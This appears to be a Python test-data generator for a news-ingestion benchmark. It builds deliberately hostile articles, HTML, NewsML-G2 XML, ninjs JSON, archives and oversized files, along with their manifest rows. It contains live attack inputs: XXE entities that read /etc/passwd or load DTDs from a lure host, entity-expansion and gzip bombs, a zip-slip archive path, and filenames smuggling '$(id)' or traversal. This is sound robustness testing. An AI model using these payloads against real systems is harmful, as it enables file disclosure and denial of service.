"""A source of chance in, hostile files for a folder that is ingested out: names, bytes, and what `manifest.csv` says of them."""

import gzip
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html import escape
from io import BytesIO
from random import Random
from xml.sax.saxutils import escape as xml

from bench.hostile.words import LURE, PRESS, hostile

_PEOPLE = ("Ilena Marsk", "Tomas Veld", "Arno Kester", "Liv Sandrel", "Milo Tarn")
_LARGE = 50_000_000


@dataclass(frozen=True, slots=True)
class Written:
    """A file: its name in the folder, its bytes, its row of the manifest."""

    name: str
    raw: bytes
    row: dict[str, str]


def person(chance: Random) -> str:
    """A name, of which now and then a part is hostile."""
    name = chance.choice(_PEOPLE)
    return name if chance.random() < 0.5 else f"{name} {hostile(chance, 'markup', 'unseen')[:60]}"


def story(chance: Random, *families: str) -> tuple[str, list[str]]:
    """The title and the paragraphs of an article whose quotes, names, figures and places are hostile."""
    said = [hostile(chance, *families) for _ in range(4)]
    name = person(chance)
    return f"Crue {said[0]} à Merrault", [
        f"La digue de Merrault a cédé mardi 4 mars 2031 {said[1]}, a annoncé {name}.",
        f"« Nous ne reculerons pas {said[2]} devant la crue », a déclaré {name} {said[3]} aux maires.",
        f"Les travaux coûteront {chance.randint(1, 900)} millions d'euros {said[0]}, selon {name}.",
        f"{name}, ministre {said[1]} de la Valdrie, a dit que {said[2]}.",
    ]


def row(chance: Random, name: str) -> dict[str, str]:
    """What a manifest says, hostile where it can be; addresses are the press's own, whatever follows the host."""
    number = chance.randrange(10**9)
    address = (
        f"https://a{number}.{PRESS}/{chance.choice(('article', 'a|b', 'a%3Cb', '<!channel>', 'é', '?q=<@U1>', '#:~:text=x'))}"
    )
    return {
        "file": name,
        "title": hostile(chance)[:3000] if chance.random() < 0.5 else "",
        "published": chance.choice(("2031-03-04", "2031-03", "2031", "", "9999-12-31", hostile(chance, "search")[:40])),
        "outlet": f"Gazette {hostile(chance)[:300]}" if chance.random() < 0.7 else "",
        "url": chance.choice((address, address, "", "javascript:alert(1)", f"https://user:pw@{PRESS}/x", "http://[::1", "//x")),
        "embargo_until": "",
        "internal": "",
    }


def text(chance: Random, number: int, *families: str) -> Written:
    title, paragraphs = story(chance, *families)
    whole = "\n\n".join([title, *paragraphs])
    encoding = chance.choice(("utf-8", "utf-8", "utf-16", "cp1252", "utf-8-sig"))
    name = f"n{number}.{chance.choice(('txt', 'md'))}"
    return Written(name, whole.encode(encoding, "replace"), row(chance, name))


def page(chance: Random, number: int) -> Written:
    """HTML that is not closed, closed twice, nested, scripted, of another charset than it says."""
    title, paragraphs = story(chance)
    deep = chance.choice((0, 3, 300, 20_000))
    tag = chance.choice(("div", "b", "table><tr><td", "ul><li", "blockquote", "span", "a href='x'", "svg><g", "font"))
    marks = chance.choice(
        (
            "<!DOCTYPE html [<!ENTITY a 'aaaa'>]>",
            "<?xml version='1.0' encoding='utf-7'?>",
            "<meta charset='x-unknown'><base href='javascript:'>",
            f"<meta property='og:site_name' content=\"{escape(hostile(chance)[:500])}\">",
            f"<meta property='og:url' content='https://c{chance.randrange(999)}.{PRESS}/{chance.choice(('x', '<!here>', '%0a'))}'>",
            "<script>document.write('<p>')</script>" * 20,
            "<!--" * 500,
            "<![CDATA[" + "]" * 100,
        )
    )
    body = "".join(f"<p>{part if chance.random() < 0.4 else escape(part)}</p>" for part in paragraphs)
    whole = f"<html><head>{marks}<title>{escape(title)}</title></head><body>{f'<{tag}>' * deep}<article><h1>{title}</h1>{body}"
    name = f"n{number}.html"
    return Written(name, whole.encode("utf-8", "replace"), row(chance, name))


def newsml(chance: Random, number: int) -> Written:
    """NewsML-G2 with entities, files of elsewhere, depth, and hostile words where it has words."""
    title, paragraphs = story(chance)
    body = "".join(f"<p>{xml(part)}</p>" for part in paragraphs)
    prologue = chance.choice(
        (
            "",
            "",
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
            '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            f'<!DOCTYPE x SYSTEM "http://{LURE}/x.dtd">',
            f'<!DOCTYPE x PUBLIC "-//x//x" "http://{LURE}/x.dtd">',
            f'<!DOCTYPE x [<!ENTITY % d SYSTEM "http://{LURE}/x.dtd"> %d;]>',
            f'<!DOCTYPE x [<!ENTITY a "{"z" * 100_000}">]>',
            '<?xml-stylesheet href="file:///etc/passwd"?>',
        )
    )
    entity = chance.choice(("&a;", "&c;", "&a;" * 2000, "")) if "ENTITY" in prologue else ""
    deep = chance.choice((0, 0, 50, 500, 100_000))
    inner = f"{'<div>' * deep}<p>{entity}</p>{body}{'</div>' * deep}"
    guid = xml(hostile(chance)[:300], {'"': "&quot;"})
    head = f"<itemMeta><itemClass qcode='ninat:text'/><pubStatus qcode='stat:{chance.choice(('usable', 'x', 'withheld'))}'/></itemMeta>"
    whole = (
        f"<?xml version='1.0'?>{prologue}<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid=\"urn:{number}:{guid}\""
        f" version='{chance.choice(('1', '-1', '9e999', 'x'))}'>{head}<contentMeta><headline>{xml(title)}</headline></contentMeta>"
        f"<contentSet><inlineXML><html xmlns='http://www.w3.org/1999/xhtml'><body>{inner}</body></html></inlineXML></contentSet></newsItem>"
    )
    raw = whole.encode(chance.choice(("utf-8", "utf-8", "utf-16")), "replace")
    name = f"n{number}.xml"
    return Written(name, raw[: chance.choice((len(raw), len(raw), len(raw) // 2))], row(chance, name))


def ninjs(chance: Random, number: int) -> Written:
    """ninjs of wrong types, of depth, with halves of characters and numbers without end."""
    title, paragraphs = story(chance)
    told: dict[str, object] = {
        "uri": f"urn:{number}:{hostile(chance)[:300]}",
        "type": "text",
        "version": chance.choice(("1", 1, 1e308, -1, [], "x", None)),
        "pubstatus": "usable",
        "headline": title,
        "body_text": "\n\n".join(paragraphs),
        "embargoed": chance.choice((None, None, None, "x", 5, [], "2031-03-04")),
        "links": chance.choice(
            ([], {}, "x", [{"rel": "canonical", "href": f"https://d{number}.{PRESS}/x"}] if number % 9 == 0 else [1])
        ),
        "bodies": chance.choice(([], [{"value": 5}], "x", [{"contenttype": [], "value": title}])),
        "associations": chance.choice((None, {"a": 1}, [[]], "x")),
    }
    if chance.random() < 0.3:
        told[chance.choice([*told])] = chance.choice((None, [], {}, 10**400, "\ud800", "\x00" * 20, [[[]]], True))
    whole = json.dumps(told)
    if chance.random() < 0.1:
        whole = '{"uri":"a","pubstatus":' + "[" * 100_000
    name = f"n{number}.json"
    return Written(name, whole.encode(), row(chance, name))


def named(chance: Random, number: int) -> Written:
    """A plain article under a name that would lead elsewhere, and archives, which are not opened."""
    title, paragraphs = story(chance, "paths")
    name = chance.choice(
        (
            f"..{number}.txt",
            f"-rf {number}.txt",
            f"$(id){number}.txt",
            f"a\n{number}.txt",
            f"\u202etxt.{number}.txt",
            f"<!channel>{number}.txt",
            f"{'é' * 110}{number}.txt",
            f"%2e%2e%2f{number}.txt",
            f"é\udcff{number}.txt",
            f"n{number}.zip",
            f"n{number}.gz",
        )
    )
    raw = "\n\n".join([title, *paragraphs]).encode("utf-8", "replace")
    if name.endswith(".zip"):
        packed = BytesIO()
        with zipfile.ZipFile(packed, "w") as folder:
            folder.writestr(f"../../../tmp/{LURE}-{number}.txt", raw)
        raw = packed.getvalue()
    if name.endswith(".gz"):
        raw = gzip.compress(b"a" * 1_000_000)
    told = row(chance, name)
    told["file"] = (
        chance.choice((name, f"../../../../etc/passwd{number}", f"/etc/{number}")).encode("utf-8", "replace").decode()
    )
    return Written(name, raw, told)


def large(chance: Random, number: int) -> Written:
    """HTML of 50 MB, and what is just small enough to be opened."""
    name = f"n{number}.{chance.choice(('html', 'txt', 'xml'))}"
    size = chance.choice((_LARGE, _LARGE, 9_900_000))
    part = chance.choice(
        ("<div>", "<p>a</p>", "<p>La crue monte encore à Merrault. </p>", "<b><i>", "&lt;", "<!--", "«", "\n\n")
    )
    raw = part.encode() * (size // len(part.encode()))
    if size < _LARGE and name.endswith("html"):
        raw = b"<html><body>" + raw
    return Written(name, raw, row(chance, name))


KINDS: dict[str, Callable[[Random, int], Written]] = {
    "mark-up, mentions, links": lambda chance, number: text(chance, number, "markup"),
    "search, unseen signs": lambda chance, number: text(chance, number, "search", "unseen"),
    "HTML": page,
    "NewsML-G2": newsml,
    "ninjs": ninjs,
    "names, archives": named,
    "50 MB": large,
}
